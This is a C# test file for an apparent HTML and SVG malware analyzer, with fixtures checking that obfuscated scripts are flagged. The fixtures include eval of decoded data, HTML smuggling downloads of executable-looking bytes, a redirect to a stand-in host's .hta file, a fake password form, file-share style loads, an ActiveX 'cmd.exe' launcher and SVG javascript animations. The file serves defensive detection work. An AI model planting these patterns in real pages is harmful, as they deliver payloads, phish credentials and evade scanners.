using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Scripts that a page or a picture carries other than as text between tags, and data that it has the browser save.</summary>
public sealed class CarriedScriptTests
{
    private const string Exports = "<table id=t></table><button onclick=\"save()\">Export</button><script>function save() { var r = [];"
        + "document.querySelectorAll('#t tr').forEach(row => r.push(row.innerText)); var b = new Blob([r.join('\\n')]);"
        + "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = ";

    private static readonly string Loads = Base64("location.href = 'http://a.example/x.hta'");
    private static readonly string Bytes = string.Concat(Enumerable.Repeat("4d5a9000", 100));

    [Fact]
    public void Complete_AddressOfAScriptCarriesIt_IsReadAsAScript()
    {
        Suspicious($"<html><script src=\"data:text/javascript;base64,{Loads}\"></script></html>", "script.loads-program");
        Suspicious("<html><script src=\"data:,location.href%20%3D%20'http://a.example/x.hta'\"></script></html>", "script.loads-program");
        Judged.Of($"<html><script src=\"data:text/javascript;base64,{Base64("window.a = 1;")}\"></script></html>")
            .Verdict.ShouldBe(Verdict.Clean);
    }

    [Theory]
    [InlineData("<style>body { background: url(\"\\\\\\\\192.0.2.7\\\\share\\\\a.png\") }</style>")]
    [InlineData("<style>@import url(file://192.0.2.7/share/a.css);</style>")]
    [InlineData("<p style=\"background-image: URL( '\\\\192.0.2.7\\share\\a.png' )\">a</p>")]
    public void Complete_StyleFromAShare_IsSuspicious(string body) => Suspicious($"<html>{body}</html>", "html.file-share");

    [Theory]
    [InlineData("var o = ''; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 23); eval(o);")]
    [InlineData("let o = ''; for (const c of s) { o = o + String.fromCharCode(parseInt(c, 16) - k); } (new Function(o))();")]
    [InlineData("var e = document.createElement('script'); e.text = atob(s); document.head.appendChild(e);")]
    [InlineData("var e = document.createElement('SCRIPT'); e.appendChild(document.createTextNode(atob(s)));")]
    [InlineData("var w = new Worker(URL.createObjectURL(new Blob([atob(s)])));")]
    [InlineData("let t = pako.inflate(s); const b = new Blob([t]); const u = URL.createObjectURL(b); new SharedWorker(u, 'a');")]
    [InlineData("document.write(unescape('%3Cform action=%22https://a.example/p%22%3E%3Cinput type=password%3E%3C/form%3E'))")]
    public void Complete_ScriptRunsOrShowsWhatItPutsTogether_IsSuspicious(string script) =>
        Suspicious($"<html><script>{script}</script></html>", "script.runs-decoded");

    [Fact]
    public void Complete_CodeWithoutWords_IsSuspicious() =>
        Suspicious(
            $"<html><script>[][{string.Concat(Enumerable.Repeat("(![]+[])[+[]]+", 40))}[]]()</script></html>", "script.runs-decoded");

    [Theory]
    [InlineData("<script>window.location.href = 'https://a.example/p'</script>")]
    [InlineData("<script><![CDATA[ location.replace(a + b) ]]></script>")]
    [InlineData("<script xlink:href=\"data:text/javascript,location.assign('//a.example')\"/>")]
    [InlineData("<script>eval(atob(d))</script>")]
    [InlineData("<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://a.example/login\"/></foreignObject>")]
    public void Complete_PictureThatLeadsElsewhere_IsFound(string inside) => Judged
        .Of($"<svg xmlns=\"http://www.w3.org/2000/svg\">{inside}</svg>")
        .Rules().ShouldContain("xml.picture-leads");

    [Theory]
    [InlineData("<script>document.querySelectorAll('.a').forEach(e => e.addEventListener('mouseover', () => e.classList.add('b')))"
        + "</script>")]
    [InlineData("<g onclick=\"location.href = '/part/7'\"><rect/></g>")]
    public void Complete_PictureThatOnlyMoves_IsClean(string inside) =>
        Judged.Of($"<svg xmlns=\"http://www.w3.org/2000/svg\">{inside}</svg>").Verdict.ShouldBe(Verdict.Clean);

    [Theory]
    [InlineData("<a><animate attributeName=\"href\" values=\"javascript:f()\"/><text>a</text></a>")]
    [InlineData("<a><set attributeName=\"xlink:href\" to=\" java&#x73;cript:f()\"/><text>a</text></a>")]
    [InlineData("<a><animate attributeName=\"href\" values=\"/part;javascript:f();x\"/></a>")]
    public void Complete_AnimationThatGivesAScript_IsSuspicious(string inside) => Judged
        .Of($"<svg xmlns=\"http://www.w3.org/2000/svg\">{inside}</svg>").Rules().ShouldContain("xml.running-animation");

    /// <summary>Libraries save what others hand to them, and have tables of numbers and long texts of code.</summary>
    [Fact]
    public void Complete_PageWithALibraryThatSaves_IsClean()
    {
        const string saver = "function saveAs(blob, name) { var a = document.createElement('a'); a.download = name; "
            + "a.href = URL.createObjectURL(blob); a.click(); } window.saveAs = saveAs;";
        var others = "var codes = [" + string.Join(',', Enumerable.Range(0, 256)) + "], crc = [" + string.Join(',', Enumerable.Range(0, 99)
            .Select(number => number * 70_001)) + "], css = '" + string.Concat(Enumerable.Repeat(".a{b:c;d:e(f)}", 40))
            + "', font = 'data:font/woff2;base64," + new string('d', 900) + "'; function text(s) { return atob(s); }"
            + string.Concat(Enumerable.Range(0, 600).Select(number => $"function f{number}(a) {{ return a + {number}; }}\n"));

        var report = Judged.Of($"<html><script>{saver}{others}</script><script>{others}</script></html>");

        report.Verdict.ShouldBe(Verdict.Clean, Judged.Text(report));
        Suspicious($"<html><script>{saver}{others}</script><script>var d = '{Bytes}'; saveAs(new Blob([text(d)]), n)</script></html>",
            "script.builds-download");
        Suspicious("<html><script>var b = new Blob([atob(d)]); location.href = URL.createObjectURL(b);</script></html>",
            "script.builds-download");
    }

    [Theory]
    [InlineData("<script>var e = eval, s = '', i; for (i = 0; i < d.length; i++) s += f(d[i]); e(s);</script>")]
    [InlineData("<script>function g() { return d.split('.').map(f).join(''); } eval(g());</script>")]
    [InlineData("<script>var e = document.createElement('script'), t = g(); e.text = t; document.body.appendChild(e);</script>")]
    [InlineData("<script>window[n(4)](g(d));</script>")]
    [InlineData("<script>var r = x[n(1)](n(2) + '(');r = x[n(1)](g(d))();</script>")]
    [InlineData("<script>function g(c) { return String.fromCharCode(c - 3); } document.write(g(d));</script>")]
    public void Complete_PageThatRunsDataItHolds_IsSuspicious(string script)
    {
        Suspicious($"<html><script>var d = '{Bytes}';</script>{script}</html>", "script.runs-decoded");
        Suspicious($"<html><div style=\"display:none\">\n{Bytes}\n</div>{script}</html>", "script.runs-decoded");
        Suspicious($"<html><input type=hidden value=\"{Bytes}\">{script}</html>", "script.runs-decoded");
        Judged.Of($"<html><input type=hidden name=\"__VIEWSTATE\" value=\"{Bytes}\">{script}</html>").Verdict.ShouldBe(Verdict.Clean);
    }

    /// <summary>Blanks make data look like a text.</summary>
    [Fact]
    public void Complete_PageRunsDataWithBlanksInThem_IsSuspicious()
    {
        const string script = "<script>var e = eval, s = '', i; for (i = 0; i < d.length; i++) s += f(d[i]); e(s);</script>";
        var base64 = Convert.ToBase64String([.. Enumerable.Range(0, 900).Select(number => (byte)(number * number * 31))]);
        var words = string.Concat(base64.Select((letter, at) => at % 9 == 8 ? $"{letter} " : at % 50 == 49 ? $"{letter}. " : $"{letter}"));
        var numbers = string.Join(' ', Enumerable.Range(0, 400).Select(number => 97 + (number * 7 % 26)));
        var prose = string.Concat(Enumerable.Repeat("In 2016 McDonald sold 12 of 45 iPhones, and PowerPoint 97 for JavaScript 1.5. ", 20));

        Suspicious($"<html><p>{words}</p>{script}</html>", "script.runs-decoded");
        Suspicious($"<html><p>{numbers}</p>{script}</html>", "script.runs-decoded");
        Suspicious($"<html><p>{numbers.Replace(' ', ';')}</p>{script}</html>", "script.runs-decoded");
        Suspicious($"<html><p>{words}</p><script>k = ''; k += n(1); m = x[k]; m(g(d))();</script></html>", "script.runs-decoded");
        Suspicious($"<html><script>var d = '{numbers}'.split(' ');</script>{script}</html>", "script.runs-decoded");
        Judged.Of($"<html><p>{prose}</p>{script}</html>").Verdict.ShouldBe(Verdict.Clean);
    }

    [Fact]
    public void Complete_LibraryThatRunsWhatItIsGiven_IsClean()
    {
        const string runs = "function run(code) { window['eval'].call(window, code); } function json(t) { return eval('(' + t + ')'); }"
            + "function load(code) { var e = document.createElement('script'); e.text = code; document.head.appendChild(e); }"
            + "var all = Function('return this')();";

        var report = Judged.Of($"<html><script>{runs} var d = '{Bytes}';</script></html>");

        report.Verdict.ShouldBe(Verdict.Clean, Judged.Text(report));
    }

    [Theory]
    [InlineData("<script language=\"JScript.Encode\">#@~^LAAAAA==abc^#~@</script>", "script.encoded")]
    [InlineData("<object classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\"><param name=\"Item1\" value=\",cmd.exe,/c calc\"></object>",
        "html.starting-address")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=data:text/html;base64,PGI+YTwvYj4=\">", "html.carried-page")]
    [InlineData("<iframe srcdoc=\"&lt;script&gt;eval(atob('YWxlcnQoMSk='))&lt;/script&gt;\"></iframe>", "script.runs-decoded")]
    public void Complete_PageThatHidesAScript_IsSuspicious(string body, string rule) => Suspicious($"<html>{body}</html>", rule);

    /// <summary>A script that is too long to be parsed is a library, unless it is long by its data.</summary>
    [Fact]
    public void Complete_LongScriptThatSaves_IsSuspiciousIfItHoldsData()
    {
        const string saves = "var b = new Blob([atob(d)]); a.href = URL.createObjectURL(b); a.download = n; a.click();";
        var code = string.Concat(Enumerable.Repeat("function f(a) { return a + 1; }\n", 10_000));
        var data = string.Concat(Enumerable.Repeat("TVqQAAMAAAAEAAAA//8AALgA", 15_000));

        Judged.Of($"<html><script>{code}{saves}</script></html>").Verdict.ShouldBe(Verdict.Clean);
        Suspicious($"<html><script>var d = '{data[8..]}';{saves}</script></html>", "script.builds-download");
    }

    /// <summary>A page may save what its reader sees; data that nobody sees may be a program.</summary>
    [Fact]
    public void Complete_PageSavesData_IsSuspiciousIfTheDataAreItsOwn()
    {
        Judged.Of($"<html>{Exports}'table.csv'; a.click(); }}</script></html>").Verdict.ShouldBe(Verdict.Clean);
        Suspicious($"<html>{Exports}'table.js'; a.click(); }}</script></html>", "script.builds-download");
        Suspicious($"<html><script>var d = '{Bytes}';</script>{Exports}n; a.click(); }}</script></html>", "script.builds-download");
        Suspicious($"<html><script>var d = [{string.Join(',', new int[64])}];</script>{Exports}n; a.click(); }}</script></html>",
            "script.builds-download");
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.ASCII.GetBytes(text));

    private static void Suspicious(string page, string rule)
    {
        var report = Judged.Of(page);

        report.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(report));
        report.Rules().ShouldContain(rule, Judged.Text(report));
    }
}
